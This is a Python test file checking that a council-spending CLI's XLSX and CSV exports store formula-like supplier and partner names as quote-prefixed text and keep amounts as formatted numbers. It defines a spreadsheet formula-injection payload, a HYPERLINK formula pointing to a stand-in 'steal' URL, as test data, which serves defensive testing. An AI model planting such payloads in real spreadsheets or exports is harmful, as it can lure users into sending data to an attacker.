"""`count --export` and `opportunities --export` with formula payloads as payees and partner names.

Two partners pay the same hostile payees (so the supplier register links them and the
shared-supplier table names them); one partner's own name is a formula. The exports
must open as text in a spreadsheet: no formula element in the XLSX XML, every such
text prefixed with a quote in XLSX and CSV, and amounts as numbers with the money format.
"""

from __future__ import annotations

import csv
import json
from decimal import Decimal
from pathlib import Path

import pytest
from typer.testing import CliRunner

from tests.report.hostile import FORMULA_TRIGGERS, PAYLOADS
from tests.report.xlsx import has_formula, read_cells
from totalplace.cli import app

runner = CliRunner()
HOSTILE_PARTNER = '=HYPERLINK("http://x.example/steal","click")'
PARTNERS = {"Calm Council": "calm.csv", HOSTILE_PARTNER: "hostile.csv"}


def cli(*args: str) -> tuple[int, str]:
    result = runner.invoke(app, list(args))
    assert "Traceback" not in result.output
    return result.exit_code, result.stdout


def _write_file(path: Path, offset: int) -> None:
    with path.open("w", newline="") as handle:
        out = csv.writer(handle)
        out.writerow(
            [
                "Payment Date",
                "Supplier Name",
                "Amount",
                "Expense Type",
                "Service Area",
                "Transaction Number",
            ]
        )
        for i, name in enumerate([*PAYLOADS, "Plain Supplier Ltd"]):
            amount = "-8347.00" if name == "-2+3" else f"{1000 + i * 111.11 + offset:.2f}"
            out.writerow(
                [
                    f"{i + 1 + offset:02d}/05/2024",
                    name,
                    amount,
                    "Consultancy fees",
                    "Corporate Services",
                    f"T{offset}-{i}",
                ]
            )


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Return a workspace of two partners paying formula-named payees, imported, counted and linked."""
    root = tmp_path_factory.mktemp("hostile")
    ws = root / "ws"
    assert cli("init", str(ws), "--place", "E07000120")[0] == 0
    for offset, (partner, name) in enumerate(PARTNERS.items()):
        _write_file(root / name, offset * 10)
        code, _ = cli("import", "--partner", partner, str(root / name), "-w", str(ws), "--json")
        assert code == 0
    for step in ("classify", "count", "link"):
        assert cli(step, "-w", str(ws), "--json")[0] == 0
    return ws


def _texts(path: Path) -> list[str]:
    return [
        cell.text
        for rows in read_cells(path).values()
        for row in rows
        for cell in row
        if cell.text is not None
    ]


def _is_number(text: str) -> bool:
    try:
        Decimal(text)
    except ArithmeticError:
        return False
    return True


def _csv_risky(rows: list[dict[str, str]]) -> list[str]:
    """Return the CSV cells a spreadsheet would run (a number such as -8347.00 is data)."""
    return [
        v for r in rows for v in r.values() if v.startswith(FORMULA_TRIGGERS) and not _is_number(v)
    ]


def _assert_safe_text(texts: list[str]) -> None:
    risky = [t for t in texts if t.startswith(FORMULA_TRIGGERS)]
    assert risky == [], f"text a spreadsheet would run: {risky}"


def test_count_xlsx_holds_a_formula_partner_name_as_text(hostile: Path, tmp_path: Path):
    target = tmp_path / "count.xlsx"
    assert cli("count", "-w", str(hostile), "--export", str(target))[0] == 0
    assert not has_formula(target)
    texts = _texts(target)
    _assert_safe_text(texts)
    assert "'" + HOSTILE_PARTNER in texts
    header, *rows = read_cells(target)["count"]
    columns = [c.text for c in header]
    amounts = [row[columns.index("counted_amount")] for row in rows]
    assert amounts and all(c.type is None and c.number_format == "#,##0.00" for c in amounts)
    shares = [row[columns.index("share")] for row in rows]
    assert all((c.number_format or "").endswith("%") for c in shares)


def test_count_csv_quotes_a_formula_partner_name(hostile: Path, tmp_path: Path):
    target = tmp_path / "count.csv"
    code, out = cli("count", "-w", str(hostile), "--export", str(target), "--json")
    assert code == 0 and json.loads(out)["exported_to"] == str(target)
    with target.open(newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert {r["partner_name"] for r in rows} == {"Calm Council", "'" + HOSTILE_PARTNER}
    assert _csv_risky(rows) == []
    total = sum(Decimal(r["counted_amount"]) for r in rows)
    assert total == sum(Decimal(r["counted_amount"]) for r in json.loads(out)["count"])


def test_opportunities_xlsx_names_hostile_suppliers_as_text(hostile: Path, tmp_path: Path):
    target = tmp_path / "opportunities.xlsx"
    assert cli("opportunities", "-w", str(hostile), "--export", str(target))[0] == 0
    assert not has_formula(target)
    cells = read_cells(target)
    texts = _texts(target)
    _assert_safe_text(texts)
    header, *rows = cells["shared_suppliers"]
    columns = [c.text for c in header]
    names = {row[columns.index("supplier_name")].text for row in rows}
    quoted = {"'" + p for p in PAYLOADS if p.strip()}
    assert quoted & names, f"shared suppliers: {names}"
    amounts = [row[columns.index("amount")] for row in rows]
    assert all(c.type is None and c.number_format == "#,##0.00" for c in amounts)
    assert "-8347.00" in {c.value for c in amounts}  # a refund stays a negative number


def test_opportunities_csv_quotes_hostile_suppliers(hostile: Path, tmp_path: Path):
    target = tmp_path / "opp.csv"
    code, out = cli("opportunities", "-w", str(hostile), "--export", str(target), "--json")
    assert code == 0
    written = [Path(p) for p in json.loads(out)["exported_to"]]
    shared = next(p for p in written if p.name == "opp_shared_suppliers.csv")
    with shared.open(newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert rows and _csv_risky(rows) == []
    assert {"'" + p for p in PAYLOADS if p.strip()} & {r["supplier_name"] for r in rows}
    assert "-8347.00" in {r["amount"] for r in rows}
